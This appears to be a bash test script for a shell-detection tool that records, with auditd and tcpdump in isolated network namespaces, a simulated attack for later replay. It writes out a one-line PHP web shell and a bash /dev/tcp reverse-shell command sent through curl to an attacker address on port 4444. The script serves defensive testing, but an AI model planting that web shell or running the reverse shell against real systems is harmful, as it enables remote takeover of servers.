#!/usr/bin/env bash
# A reverse shell from a php-fpm worker, recorded by real auditd with the shipped rules
# (deploy/auditd/shellsight.rules) and by tcpdump, for `replay --auditd` to join.
#
#   sudo bash tests/auditd/run.sh OUTDIR
#
# nginx + php-fpm serve <?php system($_GET['c']); ?> in a server namespace (tests/e2e/lib.sh);
# the attacker's GET runs bash -c 'bash -i >& /dev/tcp/198.19.0.66/4444 0>&1' in a worker,
# and fixtures/lib/operator.py types into the shell. auditd runs in the foreground with its
# own config in a temp dir (`auditd -f -c DIR`), its records going to OUTDIR/audit.log.
#
# OUTDIR gets: audit.log, capture.pcap, operator.log, transcript.txt, auditd.err.
# Exit status 77: the kernel refuses the audit netlink socket here (the message quotes
# auditctl); nothing was changed. Another running auditd is an error, not a skip.
# The rules are removed at the end by their keys, and auditing is switched back off when
# it was off before.
set -euo pipefail

OUTDIR="${1:?usage: run.sh OUTDIR}"
source "$(dirname "${BASH_SOURCE[0]}")/../e2e/lib.sh"
RULES="$REPO_ROOT/deploy/auditd/shellsight.rules"
SEED="${AUDIT_SEED:-7}"

[ "$(id -u)" = 0 ] || die "needs root (audit rules, network namespaces)"
for tool in auditd auditctl ip tcpdump curl nginx "$PHP_FPM"; do
    command -v "$tool" >/dev/null || die "missing tool: $tool (see .ci/install)"
done
if ! status="$(auditctl -s 2>&1)"; then
    printf 'auditd: SKIP: the kernel refuses the audit netlink socket: %s\n' "$status" >&2
    exit 77
fi
owner="$(awk '$1 == "pid" {print $2}' <<<"$status")"
if [ -n "$owner" ] && [ "$owner" != 0 ] && kill -0 "$owner" 2>/dev/null; then
    die "another audit daemon (pid $owner) owns the audit netlink socket here; stop it to run this test"
fi
WAS_ENABLED="$(awk '$1 == "enabled" {print $2}' <<<"$status")"
mkdir -p "$OUTDIR"
OUTDIR="$(cd "$OUTDIR" && pwd)"
rm -f "$OUTDIR"/{audit.log,auditd.err,capture.pcap,operator.log,transcript.txt,curl.log}

AUDITD_PID=""
audit_cleanup() {
    local rc=$?
    set +e
    local key
    for key in $(awk '{for (i = 1; i <= NF; i++) if ($i == "-k") print $(i + 1)}' "$RULES" | sort -u); do
        auditctl -D -k "$key" >/dev/null 2>&1
    done
    if [ -n "$AUDITD_PID" ]; then
        kill -TERM "$AUDITD_PID" 2>/dev/null
        wait "$AUDITD_PID" 2>/dev/null
    fi
    [ "$WAS_ENABLED" = 0 ] && auditctl -e 0 >/dev/null 2>&1
    return "$rc"
}

e2e_setup
trap 'audit_cleanup; e2e_cleanup' EXIT
log "namespaces $NS_SRV ($SRV_IP) and $NS_ATK ($ATK_IP), tmp $E2E_TMP"

# ---- auditd in the foreground, with explicit space limits (it refuses to start without)
conf="$E2E_TMP/auditd"
mkdir -p "$conf"
cat >"$conf/auditd.conf" <<CONF
log_file = $conf/audit.log
log_format = RAW
flush = INCREMENTAL_ASYNC
freq = 20
max_log_file = 64
num_logs = 1
max_log_file_action = ROTATE
space_left = 10
space_left_action = IGNORE
admin_space_left = 5
admin_space_left_action = IGNORE
disk_full_action = IGNORE
disk_error_action = IGNORE
CONF
chmod 600 "$conf/auditd.conf"
auditd -f -c "$conf" >"$OUTDIR/audit.log" 2>"$OUTDIR/auditd.err" &
AUDITD_PID=$!
for _ in $(seq 50); do
    grep -q "listening for events" "$OUTDIR/auditd.err" 2>/dev/null && break
    kill -0 "$AUDITD_PID" 2>/dev/null || break
    sleep 0.1
done
grep -q "listening for events" "$OUTDIR/auditd.err" ||
    { sed 's/^/  | /' "$OUTDIR/auditd.err" >&2; die "auditd did not start (see auditd.err)"; }
auditctl -R "$RULES" >/dev/null || die "auditctl -R $RULES failed"
log "auditd running (pid $AUDITD_PID), rules: $(auditctl -l | grep -c 'key=ss_') loaded"

# ---- the service, the capture and the attack
start_nginx_php
start_capture "$OUTDIR/capture.pcap"
in_atk "${PY[@]}" "$FX_LIB/operator.py" listen --host "$ATK_IP" --port 4444 --lines \
    --seed "$SEED" --script short --accept-timeout 20 --transcript "$OUTDIR/transcript.txt" \
    2>"$OUTDIR/operator.log" &
OP_PID=$!
wait_listen "$NS_ATK" 4444 "operator.py" "$OUTDIR/operator.log"
log "GET /shell.php?c=bash -c 'bash -i >& /dev/tcp/$ATK_IP/4444 0>&1'"
in_atk curl -sS -o /dev/null -m 75 -G \
    --data-urlencode "c=bash -c 'bash -i >& /dev/tcp/$ATK_IP/4444 0>&1'" \
    "http://$SRV_IP/shell.php" >"$OUTDIR/curl.log" 2>&1 &
wait "$OP_PID" || die "operator.py failed (see $OUTDIR/operator.log)"
grep -q "uid=" "$OUTDIR/transcript.txt" || die "the shell never answered 'id' (see transcript.txt)"
sleep 1
stop_capture
# let auditd write what the kernel has queued, then stop it (cleanup removes the rules)
sleep 1
for key in $(awk '{for (i = 1; i <= NF; i++) if ($i == "-k") print $(i + 1)}' "$RULES" | sort -u); do
    auditctl -D -k "$key" >/dev/null 2>&1 || true
done
kill -TERM "$AUDITD_PID" 2>/dev/null || true
wait "$AUDITD_PID" 2>/dev/null || true
AUDITD_PID=""
log "done: $(wc -l <"$OUTDIR/audit.log") audit lines, capture $(stat -c %s "$OUTDIR/capture.pcap") bytes"
